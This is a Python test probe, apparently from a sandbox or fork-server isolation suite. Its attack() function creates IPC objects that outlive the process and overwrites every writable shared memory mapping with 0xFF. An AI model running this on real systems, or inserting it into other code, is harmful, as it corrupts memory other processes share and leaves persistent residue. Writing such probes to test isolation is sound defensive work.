"""Leave memory behind that outlives the process, and write to what the fork server shares."""

import ctypes

CLASS = "lingering"
GAINS = ("left", "write")


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for way in (
        lambda: libc.shmget(0, 4096, 0o1666),
        lambda: libc.semget(0, 1, 0o1666),
        lambda: libc.msgget(0, 0o1666),
        lambda: os.memfd_create(KNOWN["token"]),
        lambda: open(f"/dev/shm/{KNOWN['token']}", "w").close(),
        lambda: libc.mq_open(f"/{KNOWN['token']}".encode(), 0o102, 0o666, None),
    ):
        try:
            way()
        except OSError:
            pass
    with open("/proc/self/maps") as maps:
        for line in maps:
            place, rights = line.split()[:2]
            if rights[1] == "w" and rights[3] == "s":
                start, end = (int(edge, 16) for edge in place.split("-"))
                ctypes.memset(start, 0xFF, end - start)
